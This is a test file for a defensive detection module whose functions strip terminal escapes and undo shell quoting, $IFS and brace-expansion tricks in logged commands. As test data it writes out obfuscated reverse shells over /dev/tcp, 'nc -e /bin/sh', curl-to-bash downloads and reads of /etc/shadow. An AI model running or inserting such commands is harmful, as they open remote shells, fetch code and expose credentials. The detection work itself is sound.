// The rule functions that undo what hides a literal from a rule (src/detection/shell-text.ts): visible_text and
// invisible_characters (what a terminal does not draw in a name), shell_unquote (bash's quoting in a command
// line), shell_normalize (the expansions that split or space out words, too). Each is checked on its own and
// through SQL as a rule calls it, and on 1 MB of the input that costs it most, by its output (its time is in
// bench/shell-text.bench.ts); shell_normalize's new forms also by how its time grows, and against bash itself.
import {spawnSync} from 'node:child_process';

import fc from 'fast-check';
import type {Database} from 'sql.js';
import {afterAll, beforeAll, describe, expect, it} from 'vitest';

import {decodeStoredText, invisibleCharacters, shellNormalize, shellUnquote, visibleText} from '../../src/detection/shell-text.js';
import {registerUdfs} from '../../src/detection/udfs.js';
import {loadSqlJs} from '../../src/storage/sqljs.js';
import {expectLinearTime} from '../helpers/linear-time.js';

const MB = 1024 * 1024;

/** Equal texts, compared without printing a megabyte when they differ: their lengths and where they part. */
function same(actual: string, expected: string): void {
  let at = 0;
  while (at < Math.min(actual.length, expected.length) && actual[at] === expected[at]) at++;
  expect({length: actual.length, differsAt: at === actual.length && at === expected.length ? -1 : at, near: actual.slice(at, at + 20)}).toEqual({
    length: expected.length,
    differsAt: -1,
    near: '',
  });
}

describe('decodeStoredText', () => {
  it('reads the stored form: \\\\ is a backslash, \\xHH of an escaped byte is that byte, a C1 pair is its control', () => {
    expect(decodeStoredText('plain')).toBe('plain');
    expect(decodeStoredText('\\x1b[0m')).toBe('\x1b[0m');
    expect(decodeStoredText('a\\\\x1bb')).toBe('a\\x1bb');
    expect(decodeStoredText("printf '\\x41'")).toBe("printf '\\x41'");
    expect(decodeStoredText('\\xc2\\x9b')).toBe('\u009b');
    expect(decodeStoredText('caf\\xe9')).toBe('caf\ufffd');
    // Upper-case digits are never the stored form's: text as typed.
    expect(decodeStoredText('\\x1B')).toBe('\\x1B');
  });
});

describe('visible_text and invisible_characters', () => {
  const cases: [string, string, number][] = [
    ['\\x1b[0m[kworker/0:2]', '[kworker/0:2]', 1],
    ['[kworker/0:3]\u200b', '[kworker/0:3]', 1],
    ['\u202e[kworker/0:1]', '[kworker/0:1]', 1],
    ['\\x1b]0;any title\\x07[kthreadd]', '[kthreadd]', 1],
    ['\\x1b]0;title\\x1b\\[k]', '[k]', 1],
    ['\\xc2\\x9b31m[rcu_sched]', '[rcu_sched]', 1],
    ['\\x1b(B\\x1b7[k]', '[k]', 2],
    ['ssh\\x08\\x08\\x08bash', 'sshbash', 3],
    ['a\tb\nc', 'abc', 2],
    ['kwor\u00adker', 'kworker', 1],
    ['nginx\u{e0020}\ufe0f', 'nginx', 2],
    ['\\x1b', '', 1],
    ['\\x1b[', '', 1],
    // Visible: ordinary text, other scripts, emoji, invalid bytes (drawn as a mark: not counted, but dropped), an escape typed as text
    ['sshd: alice@pts/0', 'sshd: alice@pts/0', 0],
    ['日本語 — Привет ☕', '日本語 — Привет ☕', 0],
    ['caf\\xe9', 'caf', 0],
    ['\\\\x1b[0m', '\\x1b[0m', 0],
  ];
  it.each(cases)('%j shows as %j, %i hidden', (text, shown, hidden) => {
    expect(visibleText(text)).toBe(shown);
    expect(invisibleCharacters(text)).toBe(hidden);
  });

  it('works through 1 MB of escape sequences, controls and open control strings in one pass', () => {
    same(visibleText('\\x1b[0m'.repeat(MB / 7) + 'x'), 'x');
    expect(invisibleCharacters('\\x1b[0m'.repeat(MB / 7))).toBe(Math.floor(MB / 7));
    same(visibleText('\u200b'.repeat(MB) + 'x'), 'x');
    // An OSC string never closed: the terminal swallows the rest, and so does visible_text, once
    same(visibleText('a' + '\\x1b]'.repeat(MB / 5)), 'a');
    // CSI introducers each cut short by the next: one sequence each
    expect(invisibleCharacters('\\x1b['.repeat(MB / 5))).toBe(Math.floor(MB / 5));
  });
});

describe('shell_unquote', () => {
  const cases: [string, string][] = [
    ['bash -i >& /dev/t""cp/127.0.0.1/4 0>&1', 'bash -i >& /dev/tcp/127.0.0.1/4 0>&1'],
    ["/dev/t''cp", '/dev/tcp'],
    ['/d\\ev/\\tcp', '/dev/tcp'],
    ["$'\\x2fdev\\x2ftcp'", '/dev/tcp'],
    ["$'\\057dev\\u002ftcp\\U0000002f'", '/dev/tcp/'],
    // (stored form: a typed \\ is stored \\\, the first backslash doubled before the second)
    ["$'a\\tb\\e\\cA\\'\\\\\\'", "a\tb\x1b\x01'\\"],
    ['n\\c -e', 'nc -e'],
    ['c""url x | s\'\'h', 'curl x | sh'],
    // In "…" only \\ \$ \` \" lose their backslash; in '…' nothing does
    ['"a\\$b\\\\c\\"d\\e"', 'a$b\\c"d\\e'],
    ['\'a\\""b\'', 'a\\""b'],
    ['$"x"', 'x'],
    // A substitution inside "…" is read afresh: its '' go
    ['"$(cu\'\'rl x)"', '"$(curl x)'],
    ['"`w\'\'get y`"', '"`wget y`'],
    ['"$( (echo a) ; n\'\'c -e x)"', '"$( (echo a) ; nc -e x)'],
    // A comment keeps its quotes and does not pair them
    ['# it\'s\nbash /dev/t""cp', "# it's\nbash /dev/tcp"],
    ["a#'b", 'a#b'],
    // Line continuations
    ['cu\\\nrl', 'curl'],
    ['"cu\\\nrl"', 'curl'],
    // A quoted phrase that starts a word keeps one quote: it is one argument
    ["grep -e 'nc -e' log", "grep -e 'nc -e log"],
    ['echo "a b" \'c\'', 'echo "a b c'],
    // Unclosed quotes run to the end
    ["a'b c", 'ab c'],
    ['', ''],
    // The stored form: \\x1b is ESC
    ['a\\x1bb', 'a\x1bb'],
  ];
  it.each(cases)('%j is %j', (text, unquoted) => {
    expect(shellUnquote(text)).toBe(unquoted);
  });

  it('unquotes each argument of a JSON argv on its own: a quote in argv[0] does not reach the script', () => {
    expect(shellUnquote(JSON.stringify(["'", '-c', 'bash -i >& /dev/t""cp/1/2 0>&1']))).toBe(' -c bash -i >& /dev/tcp/1/2 0>&1');
    expect(shellUnquote(JSON.stringify(['sh', '-c', "n''c -e sh x"]))).toBe('sh -c nc -e sh x');
    // Not an array of strings: read as text
    expect(shellUnquote('[1, "a"]')).toBe('[1, a]');
    expect(shellUnquote('[not json')).toBe('[not json');
  });

  it('works through 1 MB of quotes, escapes, ANSI-C strings and nested substitutions in one pass', () => {
    same(shellUnquote("''".repeat(MB / 2) + 'x'), 'x');
    same(shellUnquote('""'.repeat(MB / 2) + 'x'), 'x');
    same(shellUnquote('\\a'.repeat(MB / 2)), 'a'.repeat(MB / 2));
    same(shellUnquote("$'" + '\\x41'.repeat(MB / 4) + "'"), 'A'.repeat(MB / 4));
    // Each `"$(` opens a substitution inside "…": a stack 200 000 deep, closed one level at a time
    const depth = MB / 5;
    same(shellUnquote('"$(x'.repeat(depth) + ')"'.repeat(depth)), '$(x'.repeat(depth) + ')'.repeat(depth));
    // Quotes opening at word starts, each phrase holding a blank: each keeps one quote
    same(shellUnquote(" 'a b'".repeat(MB / 6)), " 'a b".repeat(MB / 6));
  });
});

describe('shell_normalize', () => {
  const cases: [string, string][] = [
    // $IFS in its forms: one blank
    ['bash${IFS}-i>&/dev/tcp/10.0.0.5/4444', 'bash -i>&/dev/tcp/10.0.0.5/4444'],
    ['cat$IFS/etc/shadow', 'cat /etc/shadow'],
    ['cat${IFS%??}/etc/shadow', 'cat /etc/shadow'],
    ['cat$IFS$9/etc/passwd', 'cat /etc/passwd'],
    ['cat${IFS:0:1}/etc/passwd', 'cat /etc/passwd'],
    // Positional parameters, $@, $* and empty substitutions: nothing
    ['c$@url -s x', 'curl -s x'],
    ['cu$()rl x', 'curl x'],
    ['cu$( )rl x', 'curl x'],
    ['w``get x', 'wget x'],
    ['n$1c -e sh', 'nc -e sh'],
    ['/dev/t${@}cp/1/2', '/dev/tcp/1/2'],
    ['ba$*sh', 'bash'],
    ['"c$@url"', 'curl'],
    ['"cu$()rl"', 'curl'],
    // An unset variable inside a word: nothing when a letter or digit follows it
    ['n${x}c -e sh', 'nc -e sh'],
    ['/dev/${x}tcp/1/2', '/dev/tcp/1/2'],
    ['c$u\\url', 'curl'],
    ["w$u''get", 'wget'],
    ['${x}nc -e sh', 'nc -e sh'],
    ['c${a}${b}url', 'curl'],
    ['c${a}$@${b}url', 'curl'],
    // ... and as written otherwise: an admin's variables
    ['cp $HOME/x $BACKUP/', 'cp $HOME/x $BACKUP/'],
    ['tar czf /srv/$APP/backup-${DATE}.tgz --dir=$D ${NAME}.log x$N', 'tar czf /srv/$APP/backup-${DATE}.tgz --dir=$D ${NAME}.log x$N'],
    ['v${MAJOR}${MINOR} file_${i}_x $A:$B', 'v${MAJOR}${MINOR} file_${i}_x $A:$B'],
    // Brace lists that start a word: their elements
    ['{bash,-i}', 'bash -i'],
    ['{curl,-fsSL,http://203.0.113.9/a.sh}|bash', 'curl -fsSL http://203.0.113.9/a.sh|bash'],
    ['{echo,c2xlZXAK}|{base64,-d}|{bash,-i}', 'echo c2xlZXAK|base64 -d|bash -i'],
    ['{{bash,-i},x}', 'bash -i x'],
    ['${IFS}{nc,-e,/bin/sh,1,2}', ' nc -e /bin/sh 1 2'],
    ["{b''ash,-i}", 'bash -i'],
    ['{bash,-i}${IFS}>&${IFS}/dev/t$()cp/1/2', 'bash -i >& /dev/tcp/1/2'],
    ['for f in {a,b,c}.txt; do x; done', 'for f in a b c.txt; do x; done'],
    // ... and literal otherwise: no comma, a group, find's {}, a list inside a word, a sequence, unclosed
    ['echo {a} {} {1..5} x{a,b}', 'echo {a} {} {1..5} x{a,b}'],
    ['{ echo a,b; }', '{ echo a,b; }'],
    ['find . -exec rm {} \\;', 'find . -exec rm {} ;'],
    ['{a,b', '{a,b'],
    ['a,b}', 'a,b}'],
    // Not undone: values the shell has, operator forms, an unclosed ${, arithmetic, what is quoted with '…'
    ['echo $$ $? $! $- $# $0', 'echo $$ $? $! $- $# $0'],
    ['${x:-curl} ${#IFS} $IFSx ${', '${x:-curl} ${#IFS} $IFSx ${'],
    ['$(( 1 + 2 )) $(id)', '$(( 1 + 2 )) $(id)'],
    ["'${IFS}c$@url'", '${IFS}c$@url'],
    ["$'c$@url'", 'c$@url'],
    // A blank from $IFS inside "…" is a blank in the phrase: it keeps its quote
    ['"a${IFS}b"', '"a b'],
    // Quoting is removed as shell_unquote removes it
    ['bash -i >& /dev/t""cp/1/2 0>&1', 'bash -i >& /dev/tcp/1/2 0>&1'],
    ["grep -e 'nc -e' log", "grep -e 'nc -e log"],
    ['', ''],
  ];
  it.each(cases)('%j is %j', (text, normalized) => {
    expect(shellNormalize(text)).toBe(normalized);
  });

  it('reads a JSON argv one argument at a time', () => {
    expect(shellNormalize(JSON.stringify(['bash', '-c', '{bash,-i}>&/dev/t$@cp/1/2 0>&1']))).toBe('bash -c bash -i>&/dev/tcp/1/2 0>&1');
    // A brace opened in one argument is not closed by another
    expect(shellNormalize(JSON.stringify(['{a,b', 'c}']))).toBe('{a,b c}');
  });

  it('agrees with bash on the words these forms make, with no arguments and the variables unset', () => {
    const scripts = [
      'c$@url${IFS}-fsSL${IFS}http://203.0.113.9/a.sh',
      '{curl,-fsSL,http://203.0.113.9/a.sh}',
      'cat$IFS$9/etc/shadow',
      'cat${IFS%??}/etc/shadow',
      'n${__de_x}c -e /bin/sh 10.0.0.5 4444',
      '/dev/t$()cp/10.0.0.5/4444 w``get c$__de_u\\url',
      "{b''ash,-i} {{nc,-e},/bin/sh}",
      'cp $HOME/x ${HOME}/y',
    ];
    // One bash for all: printf writes each word bash makes on a line of its own, a line `--` ends a script's
    // words. HOME is set, the other variables are not.
    const run = spawnSync('/bin/bash', ['-c', scripts.map((script) => `printf '%s\\n' ${script}; echo --`).join('\n')], {
      env: {PATH: '/usr/bin:/bin', HOME: '/root'},
      encoding: 'utf8',
    });
    expect(run.status, run.stderr).toBe(0);
    const made = run.stdout.split('--\n').slice(0, -1);
    expect(made).toHaveLength(scripts.length);
    for (const [index, script] of scripts.entries()) {
      const words = (made[index] ?? '').split('\n').filter((word) => word !== '');
      const normalized = shellNormalize(script).replaceAll('${HOME}', '/root').replaceAll('$HOME', '/root');
      expect(
        normalized.split(' ').filter((word) => word !== ''),
        script,
      ).toEqual(words);
    }
  });

  it('is shell_unquote on a text with no $, backquote or brace, and never longer than its input', () => {
    const units = ['a', 'b', ' ', "'", '"', '\\', '$', '`', '{', '}', ',', '(', ')', '#', '\n', 'I', 'F', 'S', '@', '1', '%', '?'];
    fc.assert(
      fc.property(fc.string({unit: fc.constantFrom(...units), maxLength: 40}), (text) => {
        const normalized = shellNormalize(text);
        expect(normalized.length).toBeLessThanOrEqual(text.length);
        if (!/[$`{]/.test(text)) expect(normalized).toBe(shellUnquote(text));
      }),
      {numRuns: 2000},
    );
  });

  it('works through 1 MB of each new form in one pass', () => {
    same(shellNormalize('${IFS}'.repeat(MB / 6)), ' '.repeat(MB / 6));
    same(shellNormalize('c$@'.repeat(MB / 3)), 'c'.repeat(MB / 3));
    same(shellNormalize('c${x}'.repeat(MB / 5) + 'x'), 'c'.repeat(MB / 5) + 'x');
    same(shellNormalize('${x}'.repeat(MB / 4) + 'x'), 'x');
    same(shellNormalize('{'.repeat(MB / 2) + '}'.repeat(MB / 2)), '{'.repeat(MB / 2) + '}'.repeat(MB / 2));
    same(shellNormalize('{a,'.repeat(MB / 4) + '}'.repeat(MB / 4)), 'a '.repeat(MB / 4));
    // Hostile: an operator form never closed, substitutions never closed, names never closed
    same(shellNormalize('${IFS%'.repeat(MB / 6)), '${IFS%'.repeat(MB / 6));
    same(shellNormalize('$( '.repeat(MB / 3)), '$( '.repeat(MB / 3));
    // (two backquotes with a blank between are an empty substitution: one blank is left of each four characters)
    same(shellNormalize('` '.repeat(MB / 2) + 'x'), ' '.repeat(MB / 4) + 'x');
    same(shellNormalize('`' + ' '.repeat(MB) + 'x'), '`' + ' '.repeat(MB) + 'x');
    same(shellNormalize('${aa'.repeat(MB / 4)), '${aa'.repeat(MB / 4));
  });

  it('takes time linear in the text on hostile repetitions: ${IFS}, {{{{ nesting, open ${IFS% and $( forms, glued variables', () => {
    const hostile: ((n: number) => string)[] = [
      (n) => '${IFS}'.repeat(n),
      (n) => '{'.repeat(n) + '}'.repeat(n),
      (n) => '{a,'.repeat(n) + '}'.repeat(n),
      (n) => '{,'.repeat(n),
      (n) => '${IFS%'.repeat(n),
      (n) => '$( '.repeat(n),
      (n) => '`' + ' '.repeat(n) + '`x' + '`'.repeat(n),
      (n) => 'c${x}'.repeat(n),
      (n) => '"$@${'.repeat(n),
    ];
    for (const make of hostile) {
      expectLinearTime((n) => {
        const text = make(n);
        return () => shellNormalize(text);
      }, 20_000);
    }
  });
});

describe('the functions in a rule database', () => {
  let db: Database;
  beforeAll(async () => {
    const SQL = await loadSqlJs();
    db = new SQL.Database();
    registerUdfs(db);
  });
  afterAll(() => db.close());

  const one = (sql: string): unknown => db.exec(sql)[0]?.values[0]?.[0];

  it('reads them as rules do, NULL staying NULL', () => {
    expect(one(String.raw`SELECT visible_text('\x1b[0m[kworker/0:2]')`)).toBe('[kworker/0:2]');
    expect(one(String.raw`SELECT invisible_characters('\x1b[0m[kworker/0:2]')`)).toBe(1);
    expect(one(`SELECT invisible_characters('sleep')`)).toBe(0);
    expect(one(`SELECT shell_unquote('/dev/t""cp')`)).toBe('/dev/tcp');
    expect(one(`SELECT shell_unquote(json_array('''', '-c', 'n''''c -e sh'))`)).toBe(' -c nc -e sh');
    expect(one("SELECT shell_normalize(json_array('sh', '-c', '{nc,-e,sh}${IFS}c$@url'))")).toBe('sh -c nc -e sh curl');
    expect(
      one('SELECT visible_text(NULL) IS NULL AND invisible_characters(NULL) IS NULL AND shell_unquote(NULL) IS NULL AND shell_normalize(NULL) IS NULL'),
    ).toBe(1);
  });
});
